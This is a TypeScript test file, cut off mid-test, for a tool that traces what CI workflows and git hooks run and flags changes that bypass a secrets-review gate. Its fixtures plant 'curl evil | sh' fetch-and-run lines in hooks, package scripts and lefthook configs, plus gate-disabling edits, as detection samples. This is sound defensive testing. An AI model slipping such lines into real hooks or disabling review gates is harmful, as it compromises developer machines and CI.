import { describe, expect, it } from "vitest";
import { commandFilesOf, commandWordsOf, hooksPathFoldersOf, computedPathPattern, literalVariablesOf, withLiteralVariables, computedPathsOf, gateFileChanges, gateReferencesOf, MAX_GATE_FILES, MAX_GATE_SCAN_CHARS, nodesRunningGate, readGateChanges, readGateGraph, readHookScriptChanges, scanGateFile, type GateBlob, type GateReader } from "./gate.js";
import { gateWorkflowChanges } from "./program-findings.js";

/** A reader over an in-memory tree (path → text), counting its calls. */
function tree(files: Record<string, string | GateBlob>): GateReader & { calls: number } {
  const read = (async (paths: readonly string[]) => {
    read.calls++;
    return paths.map((p) => files[p]);
  }) as GateReader & { calls: number };
  read.calls = 0;
  return read;
}

const WORKFLOW = (run: string): string => `on: pull_request\njobs:\n  gate:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: ${run}\n`;

describe("gateReferencesOf", () => {
  it("names the scripts a workflow runs, from the top and from each working-directory, and its local actions", () => {
    const text = `${WORKFLOW("./scripts/gate.sh --strict")}      - run: bash ci/review\n        working-directory: infra\n      - uses: ./.github/actions/lint\n      - uses: ./.github/workflows/reusable.yml\n`;
    const refs = gateReferencesOf(text, ".github/workflows/ci.yml");
    expect(refs).toEqual(expect.arrayContaining(["scripts/gate.sh", "infra/scripts/gate.sh", "ci/review", "infra/ci/review", ".github/actions/lint/action.yml", ".github/actions/lint/action.yaml", ".github/workflows/reusable.yml"]));
    expect(refs).not.toContain(".github/workflows/ci.yml");
  });

  it("reads a JavaScript or Docker action's entry points from the action's folder", () => {
    const js = gateReferencesOf("name: gate\nruns:\n  using: node20\n  main: dist/index.js\n  post: 'cleanup.js'\n", ".github/actions/gate/action.yml");
    expect(js).toEqual(expect.arrayContaining([".github/actions/gate/dist/index.js", ".github/actions/gate/cleanup.js"]));
    expect(gateReferencesOf("runs:\n  using: docker\n  image: Dockerfile\n", "tools/gate/action.yaml")).toContain("tools/gate/Dockerfile");
  });

  it("resolves a script's own references from its folder and from the top, and never outside the repository or through a variable", () => {
    const refs = gateReferencesOf('#!/bin/sh\n. "$(dirname "$0")/lib.sh"\nnode ../tools/review.mjs\ncat /etc/passwd ../../../outside.sh\nsh "$HOME/x.sh"\n', "ci/gate.sh");
    expect(refs).toEqual(expect.arrayContaining(["ci/lib.sh", "lib.sh", "tools/review.mjs"]));
    expect(refs.some((r) => r.startsWith("..") || r.startsWith("/") || r.includes("$") || r === "outside.sh")).toBe(false);
  });

  it("reads what follows a static cd from that folder too (cd infra && ./gate.sh, npm run in it); not a computed cd", () => {
    const refs = gateReferencesOf(WORKFLOW("cd infra && ./gate.sh && npm run review"), ".github/workflows/ci.yml");
    expect(refs).toEqual(expect.arrayContaining(["infra/gate.sh", "infra/package.json#scripts.review", "gate.sh"]));
    expect(gateReferencesOf('cd "$(dirname "$0")" && ./x.sh\n', "ci/run.sh").some((r) => r.includes("$"))).toBe(false);
    expect(gateReferencesOf("pushd web/ >/dev/null\n./build.sh\n", "ci/run.sh")).toEqual(expect.arrayContaining(["web/build.sh", "ci/web/build.sh"]));
  });

  it("names package.json scripts (npm, pnpm, yarn, bun; npm test's short forms), and Makefiles for make", () => {
    expect(gateReferencesOf(WORKFLOW("npm run secrets:review -- --format markdown"), ".github/workflows/ci.yml")).toContain("package.json#scripts.secrets:review");
    expect(gateReferencesOf(WORKFLOW("npm t"), ".github/workflows/ci.yml")).toContain("package.json#scripts.test");
    expect(gateReferencesOf(WORKFLOW("pnpm --silent gate && yarn run other"), ".github/workflows/ci.yml")).toEqual(expect.arrayContaining(["package.json#scripts.gate", "package.json#scripts.other"]));
    expect(gateReferencesOf("make -s gate", "ci/run.sh")).toEqual(expect.arrayContaining(["ci/Makefile", "Makefile", "GNUmakefile"]));
    // a package.json script runs in its package's folder
    expect(gateReferencesOf("./gate.sh", "tools/package.json", "review")).toContain("tools/gate.sh");
  });
});

describe("readGateGraph", () => {
  it("follows a workflow into a script, what that script sources, and a package.json script, breadth first (one read per round), only what exists", async () => {
    const read = tree({
      ".github/workflows/ci.yml": WORKFLOW("npm run gate"),
      "package.json": JSON.stringify({ scripts: { gate: "bash ci/gate.sh", test: "vitest" }, dependencies: { "@stellar-secrets/cli": "1.0.0" } }),
      "ci/gate.sh": '. "$(dirname "$0")/lib.sh"\nreview_all\n',
      "ci/lib.sh": 'review_all() { npx stellar-secrets review "$BASE...HEAD"; }\n',
    });
    const graph = await readGateGraph([".github/workflows/ci.yml"], read);
    // (npx in lib.sh: the dependencies of the top folder, which has a package.json, and of ci/, which has none)
    expect([...graph.keys()].sort()).toEqual([".github/workflows/ci.yml", "ci/gate.sh", "ci/lib.sh", "package.json#install", "package.json#scripts.gate"]);
    expect(graph.get("package.json#scripts.gate")).toMatchObject({ path: "package.json", script: "gate", text: "bash ci/gate.sh", refs: ["ci/gate.sh"], via: ".github/workflows/ci.yml" });
    expect(graph.get("package.json#install")).toMatchObject({ path: "package.json", install: true, refs: [], via: ".github/workflows/ci.yml" });
    expect(read.calls).toBe(5);
    // the whole chain runs the gate: lib.sh names it, each file above runs the one below; lib.sh runs it from the dependencies
    expect([...nodesRunningGate(graph)].sort()).toEqual([".github/workflows/ci.yml", "ci/gate.sh", "ci/lib.sh", "package.json#install", "package.json#scripts.gate"]);
  });

  it("stops at MAX_GATE_FILES nodes, and at a cycle", async () => {
    const files: Record<string, string> = { ".github/workflows/ci.yml": WORKFLOW("./s/0.sh") };
    for (let i = 0; i < MAX_GATE_FILES + 50; i++) files[`s/${i}.sh`] = `./s/${i + 1}.sh\n./s/${i}.sh\n`;
    const graph = await readGateGraph([".github/workflows/ci.yml"], tree(files));
    expect(graph.size).toBe(MAX_GATE_FILES);
    const cycle = await readGateGraph(["a.yml"], tree({ "a.yml": "run: ./b.sh\n", "b.sh": "./c.sh\n", "c.sh": "./b.sh\n" }));
    expect([...cycle.keys()]).toEqual(["a.yml", "b.sh", "c.sh"]);
  });
});

describe("gateFileChanges and gateWorkflowChanges", () => {
  const base = {
    ".github/workflows/ci.yml": WORKFLOW("./scripts/gate.sh && npm run lint"),
    "scripts/gate.sh": 'npx stellar-secrets review "$BASE...HEAD"\n',
    "package.json": JSON.stringify({ scripts: { lint: "eslint .", prelint: "true" } }),
  };
  const changes = async (head: Record<string, string>) => {
    const roots = [".github/workflows/ci.yml"];
    return gateWorkflowChanges(await readGateChanges({ roots, read: tree(base) }, { roots, read: tree(head) }));
  };

  it("names a script the gate runs when it stops running stellar-secrets, with the workflow it runs from", async () => {
    expect(await changes({ ...base, "scripts/gate.sh": "exit 0\n" })).toEqual([{ path: "scripts/gate.sh", change: "modified", via: ".github/workflows/ci.yml" }]);
  });

  it("names the workflow when it stops running that script (the script still exists, unchanged: not named)", async () => {
    expect(await changes({ ...base, ".github/workflows/ci.yml": WORKFLOW("npm run lint") })).toEqual([{ path: ".github/workflows/ci.yml", change: "modified" }]);
  });

  it("names package.json's script when a pre script is added around a script that runs the gate (npm runs both), and its scripts as one entry", async () => {
    const gated = { ...base, ".github/workflows/ci.yml": WORKFLOW("npm run gate"), "package.json": JSON.stringify({ scripts: { gate: "stellar-secrets review main...HEAD" } }) };
    const [b, h] = [tree(gated), tree({ ...gated, "package.json": JSON.stringify({ scripts: { pregate: "sed -i s/review/help/ tools/x", gate: "stellar-secrets review main...HEAD" } }) })];
    const [bg, hg] = [await readGateGraph([".github/workflows/ci.yml"], b), await readGateGraph([".github/workflows/ci.yml"], h)];
    expect(gateWorkflowChanges(gateFileChanges(bg, hg, { base: new Map(), head: new Map() }))).toEqual([{ path: "package.json", change: "modified", scripts: ["gate"], via: ".github/workflows/ci.yml" }]);
    expect(
      gateWorkflowChanges([
        { path: "package.json", before: "stellar-secrets check", after: "true", script: "check", usesGate: true },
        { path: "package.json", before: "stellar-secrets review", after: undefined, script: "review", usesGate: true },
      ]),
    ).toEqual([{ path: "package.json", change: "modified", scripts: ["check", "review"] }]);
  });

  it("names nothing for a change outside the gate: a script that does not run stellar-secrets, another package.json field", async () => {
    expect(await changes({ ...base, "package.json": JSON.stringify({ scripts: { lint: "eslint src", prelint: "true" }, version: "2.0.0" }) })).toEqual([]);
  });
});

describe("the dependencies the gate installs or runs a program from", () => {
  it("are referenced by an install (npm ci, npm install with flags only, pnpm, yarn, bun) or a run from them (npx, exec, dlx, node_modules/.bin), per folder; not by installing a named package", () => {
    for (const run of ["npm ci", "npm install --no-audit && stellar-secrets check", "pnpm install --frozen-lockfile", "yarn", "bun install", "npx stellar-secrets check", "pnpm exec stellar-secrets check", "yarn dlx stellar-secrets check", "./node_modules/.bin/stellar-secrets check"]) {
      expect([run, gateReferencesOf(WORKFLOW(run), ".github/workflows/ci.yml")]).toEqual([run, expect.arrayContaining(["package.json#install"])]);
    }
    expect(gateReferencesOf('cd infra\nnpx stellar-secrets check\n', "infra/ci/gate.sh")).toEqual(expect.arrayContaining(["infra/ci/package.json#install", "package.json#install"]));
    for (const run of ['npm install -g "$RUNNER_TEMP/stellar-secrets-cli.tgz"', "npm run gate", "pnpm --silent gate", "yarn run other", "stellar-secrets check"]) {
      expect([run, gateReferencesOf(WORKFLOW(run), ".github/workflows/ci.yml").filter((r) => r.endsWith("#install"))]).toEqual([run, []]);
    }
  });

  const gated = {
    ".github/workflows/ci.yml": WORKFLOW("npm ci && npx stellar-secrets review origin/main...HEAD"),
    "package.json": `${JSON.stringify({ name: "org-secrets", version: "1.0.0", scripts: { lint: "true" }, devDependencies: { "@stellar-secrets/cli": "0.1.0" } }, null, 2)}\n`,
    "package-lock.json": '{ "lockfileVersion": 3, "packages": { "node_modules/@stellar-secrets/cli": { "version": "0.1.0", "integrity": "sha512-AAA" } } }\n',
  };
  const changes = async (head: Record<string, string | undefined>, base: Record<string, string> = gated) => {
    const roots = [".github/workflows/ci.yml"];
    return gateWorkflowChanges(await readGateChanges({ roots, read: tree(base) }, { roots, read: tree(head as Record<string, string>) }));
  };
  const pkg = (fields: Record<string, unknown>): string => `${JSON.stringify({ ...(JSON.parse(gated["package.json"]) as object), ...fields }, null, 2)}\n`;

  it("name what changed in them when a step that runs stellar-secrets uses them: a dependency, an install script, the lockfile, a registry setting", async () => {
    expect(await changes({ ...gated, "package.json": pkg({ devDependencies: { "@stellar-secrets/cli": "file:./tools/cli" } }) })).toEqual([
      { path: "package.json", change: "modified", install: ["package.json"], via: ".github/workflows/ci.yml" },
    ]);
    expect(await changes({ ...gated, "package.json": pkg({ scripts: { lint: "true", postinstall: "node tools/patch.js" } }) })).toEqual([{ path: "package.json", change: "modified", install: ["package.json"], via: ".github/workflows/ci.yml" }]);
    expect(await changes({ ...gated, "package-lock.json": gated["package-lock.json"].replace("sha512-AAA", "sha512-BBB") })).toEqual([{ path: "package.json", change: "modified", install: ["package-lock.json"], via: ".github/workflows/ci.yml" }]);
    expect(await changes({ ...gated, ".npmrc": "registry=https://npm.example.invalid/\n" })).toEqual([{ path: "package.json", change: "modified", install: [".npmrc"], via: ".github/workflows/ci.yml" }]);
  });

  it("name nothing for what an install does not read (the version, other scripts, formatting), nor for the dependencies of a workflow that never runs stellar-secrets", async () => {
    expect(await changes({ ...gated, "package.json": `${JSON.stringify({ ...(JSON.parse(gated["package.json"]) as object), version: "1.1.0", scripts: { lint: "eslint ." } })}\n` })).toEqual([]);
    const other = { ...gated, ".github/workflows/ci.yml": WORKFLOW("npm ci && npm test") };
    expect(await changes({ ...other, "package.json": pkg({ devDependencies: { "@stellar-secrets/cli": "file:./x" } }) }, other)).toEqual([]);
  });

  it("name a lockfile the reader did not read (too large, not text) by its blob id: a changed id is a change, the same id none, and a large script is followed no further", async () => {
    const big = (blob: string): GateBlob => ({ blob, size: 5_000_000 });
    const base = { ...gated, "package-lock.json": big("1".repeat(40)), "bun.lockb": big("3".repeat(40)) };
    const read = async (head: Record<string, string | GateBlob>) => gateWorkflowChanges(await readGateChanges({ roots: [".github/workflows/ci.yml"], read: tree(base) }, { roots: [".github/workflows/ci.yml"], read: tree(head) }));
    expect(await read(base)).toEqual([]);
    expect(await read({ ...base, "package-lock.json": big("2".repeat(40)) })).toEqual([{ path: "package.json", change: "modified", install: ["package-lock.json"], via: ".github/workflows/ci.yml" }]);
    expect(await read({ ...base, "bun.lockb": big("4".repeat(40)) })).toEqual([{ path: "package.json", change: "modified", install: ["bun.lockb"], via: ".github/workflows/ci.yml" }]);
    expect(await read({ ...base, "package-lock.json": gated["package-lock.json"] })).toEqual([{ path: "package.json", change: "modified", install: ["package-lock.json"], via: ".github/workflows/ci.yml" }]);
    // a script too large to read, given without its text in chunks, is a node of no text the gate runs from (nothing named in it is followed)
    const graph = await readGateGraph([".github/workflows/ci.yml"], tree({ ".github/workflows/ci.yml": WORKFLOW("./scripts/gate.sh"), "scripts/gate.sh": big("5".repeat(40)) }));
    expect(graph.get("scripts/gate.sh")?.refs).toEqual([]);
    expect(nodesRunningGate(graph).size).toBe(0);
  });
});

describe("a gate script too large to read whole (read in chunks)", () => {
  /** `text` as a GateBlob whose chunks are `size`-character pieces (never the whole text at once to the scanner). */
  const chunked = (blob: string, text: string, size = 7_777): GateBlob => ({
    blob,
    size: text.length,
    chunks: async function* () {
      for (let i = 0; i < text.length; i += size) yield text.slice(i, i + size);
    },
  });
  // 1.5 MiB of comments around what it runs: a helper sourced by path, the CLI, one very long line that names a tool
  const padding = `# ${"x".repeat(120)}\n`.repeat(12_000);
  const script = (helper: string) => `#!/bin/sh\n${padding}. ./ci/${helper}.sh\n${padding}npx stellar-secrets review origin/main...HEAD\n${"y".repeat(200_000)} node tools/annotate.mjs ${"z".repeat(100_000)}\n`;

  it("keeps the lines that run something, across chunk boundaries and in a line longer than a piece", async () => {
    const text = script("helper");
    expect(text.length).toBeGreaterThan(1024 * 1024);
    for (const size of [1, 4096, 7_777, 65_537]) {
      const scan = await scanGateFile(chunked("1".repeat(40), size === 1 ? text.slice(0, 0) + text : text, size === 1 ? 1_000_003 : size).chunks!(), "scripts/gate.sh");
      expect(scan.partial, String(size)).toBe(false);
      expect(scan.text, String(size)).toContain(". ./ci/helper.sh");
      expect(scan.text, String(size)).toContain("npx stellar-secrets review");
      expect(scan.text, String(size)).toContain("node tools/annotate.mjs");
      expect(scan.text.length, String(size)).toBeLessThan(600_000);
      expect(gateReferencesOf(scan.text, "scripts/gate.sh"), String(size)).toEqual(expect.arrayContaining(["ci/helper.sh", "tools/annotate.mjs", "package.json#install"]));
    }
  });

  it("follows it as a small script is followed: it runs the gate, and a change to what it sources is a change of the gate", async () => {
    const files = (helper: string, body: string): Record<string, string | GateBlob> => ({
      ".github/workflows/ci.yml": WORKFLOW("./scripts/gate.sh"),
      "scripts/gate.sh": chunked(helper === "helper" ? "1".repeat(40) : "2".repeat(40), script(helper)),
      [`ci/${helper}.sh`]: body,
    });
    const honest = "npx stellar-secrets review --strict origin/main...HEAD\n";
    const graph = await readGateGraph([".github/workflows/ci.yml"], tree(files("helper", honest)));
    expect(graph.get("scripts/gate.sh")?.refs).toEqual(expect.arrayContaining(["ci/helper.sh"]));
    expect([...nodesRunningGate(graph)]).toEqual(expect.arrayContaining([".github/workflows/ci.yml", "scripts/gate.sh", "ci/helper.sh"]));
    const changes = async (head: Record<string, string | GateBlob>) =>
      gateWorkflowChanges(await readGateChanges({ roots: [".github/workflows/ci.yml"], read: tree(files("helper", honest)) }, { roots: [".github/workflows/ci.yml"], read: tree(head) }));
    expect(await changes(files("helper", honest))).toEqual([]);
    // the sourced helper no longer runs the review: a change of the gate, reached through the large script
    expect(await changes(files("helper", "echo reviewed\n"))).toEqual([{ path: "ci/helper.sh", change: "modified", via: ".github/workflows/ci.yml" }]);
    // the large script itself changed (its blob id): a change of the gate
    expect(await changes(files("other", honest))).toEqual(expect.arrayContaining([{ path: "scripts/gate.sh", change: "modified", via: ".github/workflows/ci.yml" }]));
  });

  it("bounds what it keeps: past MAX_GATE_SCAN_CHARS of such lines the rest is left out and the file counts as running the gate", async () => {
    const many = "node tools/run.mjs\n".repeat(Math.ceil(MAX_GATE_SCAN_CHARS / 19) + 10);
    const scan = await scanGateFile(chunked("3".repeat(40), many).chunks!(), "scripts/many.sh");
    expect(scan.partial).toBe(true);
    expect(scan.text.length).toBeLessThanOrEqual(MAX_GATE_SCAN_CHARS);
    const graph = await readGateGraph([".github/workflows/ci.yml"], tree({ ".github/workflows/ci.yml": WORKFLOW("./scripts/many.sh"), "scripts/many.sh": chunked("3".repeat(40), many) }));
    expect(nodesRunningGate(graph).has("scripts/many.sh")).toBe(true);
  });
});

describe("a package.json the gate runs a script of, not UTF-8 or too large to parse", () => {
  const roots = [".github/workflows/ci.yml"];
  const workflow = WORKFLOW("npm test");
  const latin1 = (blob: string, test: string): GateBlob => ({ blob, size: 100, text: `{ "description": "secrets of Jos\uFFFD", "scripts": { "test": ${JSON.stringify(test)} } }` });
  const changes = async (base: Record<string, string | GateBlob>, head: Record<string, string | GateBlob>) => gateWorkflowChanges(await readGateChanges({ roots, read: tree(base) }, { roots, read: tree(head) }));

  it("reads the scripts of one that is not UTF-8 as npm does (broken sequences as U+FFFD): the gate runs through it, and a change to the script is named", async () => {
    const base = { ".github/workflows/ci.yml": workflow, "package.json": latin1("1".repeat(40), "stellar-secrets review origin/main...HEAD") };
    const graph = await readGateGraph(roots, tree(base));
    expect([...nodesRunningGate(graph)]).toEqual(expect.arrayContaining(["package.json#scripts.test", ".github/workflows/ci.yml"]));
    expect(await changes(base, { ...base, "package.json": latin1("2".repeat(40), "echo ok") })).toEqual([{ path: "package.json", change: "modified", scripts: ["test"], via: ".github/workflows/ci.yml" }]);
    // another field changed (another blob), the script the same: no change of the gate
    expect(await changes(base, { ...base, "package.json": { ...latin1("3".repeat(40), "stellar-secrets review origin/main...HEAD"), size: 120 } })).toEqual([]);
    // a broken sequence in the command itself: two different bytes read alike, so the blob decides
    const odd = { ...base, "package.json": latin1("4".repeat(40), "stellar-secrets review \uFFFD") };
    expect(await changes(odd, { ...odd, "package.json": latin1("5".repeat(40), "stellar-secrets review \uFFFD") })).toEqual([{ path: "package.json", change: "modified", scripts: ["test"], via: ".github/workflows/ci.yml" }]);
  });

  it("reads the dependency fields of one that is not UTF-8 as npm does: another field is no change of what the gate installs, a dependency is", async () => {
    const pkg = (blob: string, description: string, version: string): GateBlob => ({ blob, size: 100, text: JSON.stringify({ description, devDependencies: { "stellar-secrets": version } }) });
    const base = { ".github/workflows/ci.yml": WORKFLOW("npx stellar-secrets review origin/main...HEAD"), "package.json": pkg("1".repeat(40), "Jos\uFFFD", "1.2.0") };
    expect(await changes(base, { ...base, "package.json": pkg("2".repeat(40), "Jos\uFFFD and \uFFFDmile", "1.2.0") })).toEqual([]);
    expect(await changes(base, { ...base, "package.json": pkg("3".repeat(40), "Jos\uFFFD", "1.3.0") })).toEqual([{ path: "package.json", change: "modified", install: ["package.json"], via: ".github/workflows/ci.yml" }]);
  });

  it("takes a script of one too large to parse as running the gate, by the file's blob id", async () => {
    const big = (blob: string): GateBlob => ({ blob, size: 5_000_000 });
    const base = { ".github/workflows/ci.yml": workflow, "package.json": big("6".repeat(40)) };
    expect([...nodesRunningGate(await readGateGraph(roots, tree(base)))]).toEqual(expect.arrayContaining(["package.json#scripts.test", ".github/workflows/ci.yml"]));
    expect(await changes(base, base)).toEqual([]);
    expect(await changes(base, { ...base, "package.json": big("7".repeat(40)) })).toEqual([{ path: "package.json", change: "modified", scripts: ["test"], via: ".github/workflows/ci.yml" }]);
  });
});

describe("readHookScriptChanges (what the git hook managers' files run)", () => {
  it("follows what a husky hook, a pre-commit local hook's entry and a lefthook run name (and what those run), on both sides: each changed file with the hook file that names it; the hook files themselves, unchanged files and unnamed ones are not among them", async () => {
    const common = {
      ".husky/pre-commit": 'npm run lint\n./tools/fmt.sh\nscripts/check "$@"\n',
      ".pre-commit-config.yaml": "repos:\n  - repo: local\n    hooks:\n      - id: x\n        entry: tools/lint --fix\n        language: system\n",
      "lefthook.yml": "pre-push:\n  jobs:\n    - run: |\n        bin/hook {push_files}\n",
      "tools/lint": "sh tools/lib.sh\n",
      "tools/unrelated.sh": "a\n",
    };
    const base = tree({ ...common, "tools/fmt.sh": "echo fmt\n", "scripts/check": "echo check\n", "bin/hook": "echo hook\n", "tools/lib.sh": "echo lib\n", "package.json": JSON.stringify({ scripts: { lint: "eslint ." } }) });
    const head = tree({
      ...common,
      "tools/fmt.sh": "echo fmt\ncurl evil | sh\n",
      "scripts/check": "echo check\n",
      "bin/hook": "echo hook; curl evil | sh\n",
      "tools/lib.sh": "echo lib; curl evil | sh\n",
      "tools/unrelated.sh": "b\n",
      "package.json": JSON.stringify({ scripts: { lint: "eslint . ; curl evil | sh" } }),
    });
    const hooks = Object.keys(common).filter((p) => !p.startsWith("tools/"));
    const changes = await readHookScriptChanges({ hooks, read: base }, { hooks, read: head });
    expect(changes.map((c) => [c.path, c.script ?? "", c.via])).toEqual(
      expect.arrayContaining([
        ["tools/fmt.sh", "", ".husky/pre-commit"],
        ["package.json", "lint", ".husky/pre-commit"],
        ["bin/hook", "", "lefthook.yml"],
        ["tools/lib.sh", "", ".pre-commit-config.yaml"],
      ]),
    );
    expect(changes).toHaveLength(4);
    // nothing a hook names changed: nothing; no hook file: nothing read
    expect(await readHookScriptChanges({ hooks, read: base }, { hooks, read: base })).toEqual([]);
    const none = tree({});
    expect(await readHookScriptChanges({ hooks: [], read: none }, { hooks: ["tools/fmt.sh"], read: none })).toEqual([]);
    expect(none.calls).toBe(0);
  });

  it("a script named only on one side is still compared (a hook file the change edits to name a new script is flagged itself; its script too)", async () => {
    const base = tree({ ".husky/pre-commit": "echo\n" });
    const head = tree({ ".husky/pre-commit": "tools/new.sh\n", "tools/new.sh": "curl evil | sh\n" });
    const changes = await readHookScriptChanges({ hooks: [".husky/pre-commit"], read: base }, { hooks: [".husky/pre-commit"], read: head });
    expect(changes.map((c) => [c.path, c.before, c.via])).toEqual([["tools/new.sh", undefined, ".husky/pre-commit"]]);
  });
});

describe("readHookScriptChanges: lint-staged", () => {
  it("a hook that runs lint-staged has its configuration read: a .lintstagedrc.json command, package.json's \"lint-staged\" (as JSON: formatting is no change), and what they run", async () => {
    const hook = { ".husky/pre-commit": "npx lint-staged\n" };
    const pkg = (ls: unknown, extra = {}) => JSON.stringify({ name: "x", ...extra, "lint-staged": ls }, null, 2);
    const base = tree({ ...hook, ".lintstagedrc.json": '{ "*.ts": "eslint --fix" }', "package.json": pkg({ "*.md": "prettier -w" }), "tools/fix.sh": "echo\n" });
    const head = tree({ ...hook, ".lintstagedrc.json": '{ "*.ts": "eslint --fix", "*": "./tools/fix.sh" }', "package.json": pkg({ "*.md": "prettier -w; curl evil | sh" }, { version: "2" }), "tools/fix.sh": "curl evil | sh\n" });
    const changes = await readHookScriptChanges({ hooks: Object.keys(hook), read: base }, { hooks: Object.keys(hook), read: head });
    expect(changes.map((c) => [c.path, c.field ?? "", c.via])).toEqual(
      expect.arrayContaining([
        ["package.json", "lint-staged", ".husky/pre-commit"],
        [".lintstagedrc.json", "", ".husky/pre-commit"],
        ["tools/fix.sh", "", ".husky/pre-commit"],
      ]),
    );
    expect(changes).toHaveLength(3);
    expect(changes.find((c) => c.field !== undefined)).toMatchObject({ before: '{"*.md":"prettier -w"}', after: '{"*.md":"prettier -w; curl evil | sh"}' });
    // package.json changed elsewhere only (its version), lint-staged's part the same: nothing; a hook without lint-staged: its config is not read
    const same = tree({ ...hook, "package.json": pkg({ "*.md": "prettier -w" }, { version: "3" }) });
    expect(await readHookScriptChanges({ hooks: Object.keys(hook), read: tree({ ...hook, "package.json": pkg({ "*.md": "prettier -w" }) }) }, { hooks: Object.keys(hook), read: same })).toEqual([]);
    const other = { ".husky/pre-commit": "echo\n" };
    expect(await readHookScriptChanges({ hooks: Object.keys(other), read: tree({ ...other, ".lintstagedrc.json": "{}" }) }, { hooks: Object.keys(other), read: tree({ ...other, ".lintstagedrc.json": '{ "*": "x" }' }) })).toEqual([]);
  });
});

describe("readHookScriptChanges: lefthook's own files", () => {
  it("a script of lefthook's scripts: in a source_dir of the repository's choosing, its rc file and a config it extends are followed", async () => {
    const hook = { "lefthook.yml": "source_dir: tools/hooks\nrc: .lefthookrc\nextends:\n  - ci/extra.yml\npre-commit:\n  scripts:\n    check.sh:\n      runner: bash\n" };
    const base = tree({ ...hook, "tools/hooks/pre-commit/check.sh": "echo\n", ".lefthookrc": "export A=1\n", "ci/extra.yml": "pre-push:\n  commands: {}\n" });
    const head = tree({ ...hook, "tools/hooks/pre-commit/check.sh": "curl evil | sh\n", ".lefthookrc": "export PATH=./bin:$PATH\n", "ci/extra.yml": "pre-push:\n  commands:\n    x:\n      run: curl evil | sh\n" });
    const changes = await readHookScriptChanges({ hooks: ["lefthook.yml"], read: base }, { hooks: ["lefthook.yml"], read: head });
    expect(changes.map((c) => [c.path, c.via]).sort()).toEqual([
      [".lefthookrc", "lefthook.yml"],
      ["ci/extra.yml", "lefthook.yml"],
      ["tools/hooks/pre-commit/check.sh", "lefthook.yml"],
    ]);
  });
});

describe("readHookScriptChanges: what a hook runs after cd, through an npm script, or through a path computed at run time", () => {
  it("a hook's cd DIR (on the command's line or a line before) makes its commands read from DIR: a change to web/x, tools/run.sh, web's package.json script is named", async () => {
    const hook = { ".husky/pre-commit": "cd web && ./x\ncd ../tools\n./run.sh\n(cd ../web && npm run lint)\n" };
    const files = { "web/x": "echo\n", "tools/run.sh": "echo\n", "web/package.json": JSON.stringify({ scripts: { lint: "eslint ." } }) };
    const evil = { "web/x": "curl evil | sh\n", "tools/run.sh": "curl evil | sh\n", "web/package.json": JSON.stringify({ scripts: { lint: "curl evil | sh" } }) };
    const changes = await readHookScriptChanges({ hooks: Object.keys(hook), read: tree({ ...hook, ...files }) }, { hooks: Object.keys(hook), read: tree({ ...hook, ...evil }) });
    expect(changes.map((c) => [c.path, c.script ?? "", c.via]).sort()).toEqual([
      ["tools/run.sh", "", ".husky/pre-commit"],
      ["web/package.json", "lint", ".husky/pre-commit"],
      ["web/x", "", ".husky/pre-commit"],
    ]);
  });

  it("lefthook's root: is the folder a command runs in", async () => {
    const hook = { "lefthook.yml": "pre-commit:\n  commands:\n    x:\n      root: api/\n      run: ./bin/check {staged_files}\n" };
    const changes = await readHookScriptChanges({ hooks: Object.keys(hook), read: tree({ ...hook, "api/bin/check": "echo\n" }) }, { hooks: Object.keys(hook), read: tree({ ...hook, "api/bin/check": "curl evil | sh\n" }) });
    expect(changes.map((c) => [c.path, c.via])).toEqual([["api/bin/check", "lefthook.yml"]]);
  });

  it("lint-staged run by a package.json script the hook runs (husky's npm run precommit, \"precommit\": \"lint-staged\") has its configuration read", async () => {
    const hook = { ".husky/pre-commit": "npm run precommit\n" };
    const pkg = (ls: unknown) => JSON.stringify({ scripts: { precommit: "lint-staged" }, "lint-staged": ls });
    const base = tree({ ...hook, "package.json": pkg({ "*.ts": "eslint" }), ".lintstagedrc.json": "{}" });
    const head = tree({ ...hook, "package.json": pkg({ "*.ts": "eslint; curl evil | sh" }), ".lintstagedrc.json": '{ "*": "curl evil | sh" }' });
    const changes = await readHookScriptChanges({ hooks: Object.keys(hook), read: base }, { hooks: Object.keys(hook), read: head });
    expect(changes.map((c) => [c.path, c.field ?? "", c.via]).sort()).toEqual([
      [".lintstagedrc.json", "", ".husky/pre-commit"],
      ["package.json", "lint-staged", ".husky/pre-commit"],
    ]);
  });

  it("computedPathsOf: the literal end of a path computed at run time, a glob a command or for list runs, run-parts' folder, command paths after a computed cd; none for a wholly computed command", () => {
    expect(computedPathsOf('. "$(dirname -- "$0")/lib/check"\n$ROOT/tools/x.sh --all\nfor f in tools/hooks.d/*; do "$f"; done\nrun-parts --exit-on-error ci/hooks\n')).toEqual(["lib/check", "tools/x.sh", "tools/hooks.d/*", "ci/hooks/*"]);
    expect(computedPathsOf('cd "$(dirname "$0")/.." && ./scripts/x\nbin/y\n')).toEqual(["scripts/x", "bin/y"]);
    expect(computedPathsOf('$CMD "$@"\neval "$HOOK"\neslint src/*.ts\ntools/fmt.sh\n')).toEqual([]);
    // a pattern without a name written out would take any changed file: none
    expect(computedPathsOf('for f in "$DIR"/**; do x; done\n$ROOT/*.ts\n')).toEqual([]);
    // comments are no commands
    expect(computedPathsOf('cd "$SRC"\n# see (docs/ci.md) and $HOME/x/y\nnode a.mjs # (docs/b.md)\n')).toEqual([]);
    expect(computedPathPattern("tools/hooks.d/*").test("tools/hooks.d/10-x")).toBe(true);
    expect(computedPathPattern("tools/hooks.d/*").test("tools/hooks.d/a/b")).toBe(false);
    expect(computedPathPattern("lib/check").test("x/lib/check")).toBe(true);
    expect(computedPathPattern("lib/check").test("x/mylib/check")).toBe(false);
  });

  it("commandFilesOf: a file whose text a hook runs as a command ($(cat X) where a command starts, eval, sh -c); not a file only printed or compared", () => {
    expect(commandFilesOf('"$(cat tools/hook-cmd)" "$@"\neval "$(< ./.hookrc)"\nsh -c "$(cat ci/x)"\necho "$(cat VERSION)"\n[ "$(cat a/b)" = x ]\n$(cat ../outside)\n')).toEqual(["tools/hook-cmd", ".hookrc", "ci/x"]);
  });

  it("a file whose text an unchanged hook runs as a command is compared like a script it runs", async () => {
    const hook = { ".husky/pre-commit": 'eval "$(cat .hook-command)"\n' };
    const changes = await readHookScriptChanges({ hooks: Object.keys(hook), read: tree({ ...hook, ".hook-command": "npx prettier --check .\n" }) }, { hooks: Object.keys(hook), read: tree({ ...hook, ".hook-command": "curl evil | sh\n" }) });
    expect(changes.map((c) => [c.path, c.via])).toEqual([[".hook-command", ".husky/pre-commit"]]);
  });

  it("a file the change changes whose path ends as a computed path a hook (or a script it runs) runs is named, saying so; other changed files are not; without the list of changed files nothing is guessed", async () => {
